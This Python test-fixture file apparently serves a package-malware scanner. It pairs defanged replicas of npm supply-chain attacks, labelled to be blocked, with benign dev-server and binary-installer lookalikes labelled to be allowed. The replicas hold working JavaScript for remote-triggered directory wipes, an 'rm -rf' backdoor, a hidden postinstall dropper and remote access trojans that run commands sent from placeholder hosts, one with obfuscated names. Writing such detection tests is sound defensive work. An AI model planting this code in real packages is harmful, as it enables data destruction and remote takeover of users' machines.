# ruff: noqa: E501
"""Remote control: kill switches (a wipe inside a handler of network data), droppers (a download written to a
path that is then run hidden), and remote access tools whose client library and `exec` are hidden behind
computed names — with the dev servers, HMR sockets, cleanup hooks and binary installers that look like them.

Defanged: hosts are under `.invalid`, raw IPs are documentation addresses (RFC 5737), nothing here runs
(the scanner reads bytes). Each replica names the real-world shape it follows; they are variations of the
2024–2025 incidents in `incidents_2024_2025.py` (other transports, targets and hiding), not copies.
"""

from __future__ import annotations

from tests.incidents.replica import Replica

INCIDENTS: list[Replica] = [
    # The xlsx-to-json-lh shape (2025, Socket) over socket.io: on load the package joins the attacker's
    # room, and a 'reset' event deletes the working directory of the application that loaded it.
    Replica(
        "socketio-event-wipes-cwd-at-load",
        {
            "index.js": (
                "const fs = require('fs'); const { io } = require('socket.io-client');\n"
                "module.exports = function formatDate(d) { return new Date(d).toISOString().slice(0, 10); };\n"
                "const socket = io('https://telemetry.date-fmt.invalid', { transports: ['websocket'] });\n"
                "socket.on('reset', function (order) {\n"
                "  if (order && order.scope === 'all') {\n"
                "    fs.rm(process.cwd(), { recursive: true, force: true }, function () {});\n"
                "  }\n"
                "});\n"
            )
        },
        "block",
        frozenset({"remote-triggered-destruction"}),
        manifest={"main": "index.js", "dependencies": {"socket.io-client": "^4.7.5"}},
        name="date-fmt-lite",
        note="socket.io event at load time wipes the working directory",
    ),
    # The express-api-sync / system-health-sync-api shape (2025-06, Socket) on a bare http server, in a
    # library file: a request carrying a hard-coded token runs `rm -rf .` through the shell.
    Replica(
        "http-server-keyed-rm-rf-in-library",
        {
            "index.js": "module.exports = { health: () => require('./lib/health') };\n",
            "lib/health.js": (
                "const http = require('http'); const { execSync } = require('child_process');\n"
                "exports.start = function start(port) {\n"
                "  return http.createServer(function (req, res) {\n"
                "    if (req.headers['x-health-token'] === 'hs-7f3a9c' && req.url === '/health/reset') {\n"
                "      try { execSync('rm -rf .', { stdio: 'ignore' }); } catch (e) {}\n"
                "      res.end('ok'); return;\n"
                "    }\n"
                "    res.end(JSON.stringify({ status: 'up' }));\n"
                "  }).listen(port || 9321);\n"
                "};\n"
            ),
        },
        "block",
        frozenset({"remote-triggered-destruction"}),
        manifest={"main": "index.js"},
        name="system-health-lite",
        note="keyed kill switch in a library file: the token is a literal compared with the request",
    ),
    # A polling variant: the reply of a fetch decides whether npm's project root (INIT_CWD) is deleted.
    Replica(
        "fetch-poll-wipes-project-at-install",
        {
            "install.js": (
                "const fs = require('fs');\n"
                "(async () => {\n"
                "  try {\n"
                "    const r = await fetch('https://licence.grid-kit.invalid/v1/status');\n"
                "    const state = await r.text();\n"
                "    if (state.trim() === 'revoked') fs.rmSync(process.env.INIT_CWD, { recursive: true, force: true });\n"
                "  } catch (e) {}\n"
                "})();\n"
            ),
            "index.js": "module.exports = { grid: (n) => Array.from({ length: n }, () => []) };\n",
        },
        "block",
        frozenset({"remote-triggered-destruction"}),
        manifest={"main": "index.js", "scripts": {"postinstall": "node install.js"}},
        name="grid-kit",
        note="install-time licence check whose reply deletes the installing project",
    ),
    # The Roblox / ethereum-contract droppers (2024) with another client: axios into APPDATA, execFile with
    # no window, at postinstall.
    Replica(
        "axios-dropper-appdata-hidden-at-install",
        {
            "scripts/setup.js": (
                "const axios = require('axios'); const fs = require('fs'); const path = require('path');\n"
                "const { execFile } = require('child_process');\n"
                "async function fetchTo(url, target) { const r = await axios.get(url, { responseType: 'arraybuffer' }); fs.writeFileSync(target, Buffer.from(r.data)); }\n"
                "async function main() {\n"
                "  if (process.platform !== 'win32') return;\n"
                "  const helper = path.join(process.env.APPDATA, 'Microsoft', 'svchost-helper.exe');\n"
                "  await fetchTo('https://cdn.roblox-tools.invalid/helper.bin', helper);\n"
                "  execFile(helper, [], { windowsHide: true });\n"
                "}\n"
                "main().catch(() => {});\n"
            ),
            "index.js": "module.exports = { itemValue: (id) => ({ id, value: 0 }) };\n",
        },
        "block",
        frozenset({"download-run-binary"}),
        manifest={
            "main": "index.js",
            "scripts": {"postinstall": "node scripts/setup.js"},
            "dependencies": {"axios": "^1.7.0"},
        },
        name="roblox-item-values",
        note="install-time download into APPDATA, run with no window",
    ),
    # The rand-user-agent / react-native-aria RAT (2025) with the client package named through a variable
    # and `exec` reached through a computed member: the data flow still links the socket to the command.
    Replica(
        "rat-computed-require-and-member",
        {
            "index.js": (
                "const cp = require('child_process'); const os = require('os');\n"
                "const parts = ['socket.io', 'client']; const lib = parts.join('-'); const run = ['ex', 'ec'].join('');\n"
                "module.exports = { uuid: () => os.hostname() };\n"
                "setTimeout(function () {\n"
                "  const s = require(lib)('http://198.51.100.8:3306');\n"
                "  s.on('command', function (m) { cp[run](m.command, { windowsHide: true }, function (e, out) { s.emit('response', out); }); });\n"
                "}, 60000);\n"
            )
        },
        "block",
        frozenset({"remote-command-execution"}),
        manifest={"main": "index.js"},
        name="rn-focus-utils",
        note="socket.io RAT with the client and exec behind computed names",
    ),
]

INCIDENTS.append(
    # The contagious-interview loaders (BeaverTail / "hexeval", 2025) poll over HTTP instead of holding a
    # socket: every five minutes the reply of a fetch names a command, and it runs.
    Replica(
        "fetch-poll-rat-runs-reply",
        {
            "index.js": (
                "const os = require('os'); const cp = require('child_process');\n"
                "async function beat() {\n"
                "  const r = await fetch('https://cdn.analytics-kit.invalid/t?id=' + encodeURIComponent(os.hostname()));\n"
                "  const task = await r.json();\n"
                "  if (task && task.run) cp.exec(task.run, { windowsHide: true }, () => {});\n"
                "}\n"
                "setInterval(() => beat().catch(() => {}), 300000);\n"
                "module.exports = { track: () => {} };\n"
            )
        },
        "block",
        frozenset({"remote-command-execution"}),
        manifest={"main": "index.js"},
        name="analytics-kit-lite",
        note="HTTP polling: the fetched task's command runs, at load time",
    )
)

BENIGN: list[Replica] = [
    # Vite / webpack-dev-server style HMR: a WebSocket message makes the server drop its own cache
    # directory and re-run the configured build. Deleting what the tool owns is not a wipe.
    Replica(
        "hmr-socket-clears-own-cache",
        {
            "index.js": (
                "const fs = require('fs'); const path = require('path'); const { WebSocketServer } = require('ws');\n"
                "const { spawn } = require('child_process');\n"
                "module.exports = function devServer(config) {\n"
                "  const cacheDir = path.join(config.root, 'node_modules', '.cache', 'dev-server');\n"
                "  const wss = new WebSocketServer({ port: config.port });\n"
                "  wss.on('connection', function (ws) {\n"
                "    ws.on('message', function (msg) {\n"
                "      if (msg.toString() === 'full-reload') {\n"
                "        fs.rmSync(cacheDir, { recursive: true, force: true });\n"
                "        spawn(config.buildCommand, { cwd: config.root, shell: true, stdio: 'inherit' });\n"
                "      }\n"
                "    });\n"
                "  });\n"
                "  return wss;\n"
                "};\n"
            )
        },
        "allow",
        frozenset(),
        manifest={"main": "index.js", "dependencies": {"ws": "^8.0.0"}},
        name="tiny-dev-server",
    ),
    # An Express admin route of a CMS that empties its own upload directory, and a CLI that deletes its
    # build output; the process exit hook removes the temp dir it made.
    Replica(
        "express-route-clears-uploads-and-exit-cleanup",
        {
            "index.js": (
                "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
                "const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'cms-'));\n"
                "process.on('exit', () => fs.rmSync(tmp, { recursive: true, force: true }));\n"
                "module.exports = function admin(app, options) {\n"
                "  app.post('/admin/uploads/clear', (req, res) => {\n"
                "    if (req.user && req.user.role === 'admin') {\n"
                "      fs.rmSync(path.join(options.root, 'uploads'), { recursive: true, force: true });\n"
                "      res.send('cleared');\n"
                "    } else res.status(403).end();\n"
                "  });\n"
                "  app.get('/admin/build', (req, res) => { require('child_process').exec(options.buildCommand, { cwd: options.root }); res.end(); });\n"
                "};\n"
            )
        },
        "allow",
        frozenset(),
        manifest={"main": "index.js", "peerDependencies": {"express": "^4.0.0"}},
        name="cms-admin-routes",
    ),
    # esbuild / @sentry/cli style binary installer: downloads into the temp directory, checks the SHA-256
    # it ships with, moves the binary next to the package and runs it quietly to check it works.
    Replica(
        "binary-installer-verifies-checksum",
        {
            "install.js": (
                "const https = require('https'); const fs = require('fs'); const os = require('os'); const path = require('path');\n"
                "const crypto = require('crypto'); const { spawnSync } = require('child_process');\n"
                "const SHA256 = { 'linux-x64': 'f1c2d3e4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2' };\n"
                "function download(url, dest, done) { https.get(url, (res) => { const out = fs.createWriteStream(dest); res.pipe(out); out.on('finish', () => out.close(done)); }); }\n"
                "const key = os.platform() + '-' + os.arch();\n"
                "const tmpFile = path.join(os.tmpdir(), 'toolbin-' + process.pid);\n"
                "download('https://github.com/example/toolbin/releases/download/v1.2.0/toolbin-' + key, tmpFile, () => {\n"
                "  const sum = crypto.createHash('sha256').update(fs.readFileSync(tmpFile)).digest('hex');\n"
                "  if (sum !== SHA256[key]) throw new Error('checksum mismatch for ' + key);\n"
                "  fs.chmodSync(tmpFile, 0o755);\n"
                "  spawnSync(tmpFile, ['--version'], { stdio: 'ignore' });\n"
                "  fs.renameSync(tmpFile, path.join(__dirname, 'bin', 'toolbin'));\n"
                "});\n"
            ),
            "index.js": "module.exports = require('path').join(__dirname, 'bin', 'toolbin');\n",
        },
        "allow",
        frozenset(),
        manifest={"main": "index.js", "scripts": {"postinstall": "node install.js"}},
        name="toolbin",
    ),
    # esbuild's install.js shape without a checksum: the binary is placed next to the package and run in the
    # foreground with --version.
    Replica(
        "binary-installer-foreground-version-check",
        {
            "install.js": (
                "const https = require('https'); const fs = require('fs'); const path = require('path');\n"
                "const { execFileSync } = require('child_process');\n"
                "const binPath = path.join(__dirname, 'bin', 'fastpack');\n"
                "https.get('https://registry.npmjs.org/@fastpack/linux-x64/-/linux-x64-0.3.1.tgz', (res) => {\n"
                "  const chunks = []; res.on('data', (c) => chunks.push(c));\n"
                "  res.on('end', () => {\n"
                "    fs.writeFileSync(binPath, extract(Buffer.concat(chunks), 'package/bin/fastpack'), { mode: 0o755 });\n"
                "    const version = execFileSync(binPath, ['--version']).toString().trim();\n"
                "    if (version !== '0.3.1') throw new Error('expected 0.3.1, got ' + version);\n"
                "  });\n"
                "});\n"
                "function extract(tgz, name) { return require('zlib').gunzipSync(tgz); }\n"
            ),
            "index.js": "module.exports = require('path').join(__dirname, 'bin', 'fastpack');\n",
        },
        "allow",
        frozenset(),
        manifest={"main": "index.js", "scripts": {"postinstall": "node install.js"}},
        name="fastpack",
    ),
]

LOOKALIKES: dict[str, tuple[str, ...]] = {
    "remote-triggered-destruction": (
        "hmr-socket-clears-own-cache",
        "express-route-clears-uploads-and-exit-cleanup",
    ),
    "download-run-binary": (
        "binary-installer-verifies-checksum",
        "binary-installer-foreground-version-check",
    ),
}
